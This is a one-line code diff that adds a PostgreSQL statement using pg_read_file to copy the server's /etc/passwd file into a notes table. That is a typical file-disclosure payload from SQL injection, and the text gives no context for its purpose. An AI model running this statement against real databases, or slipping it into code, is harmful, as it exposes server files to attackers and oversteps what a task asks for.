@@ -1,0 +1,1 @@
+UPDATE notes SET body = pg_read_file('/etc/passwd')
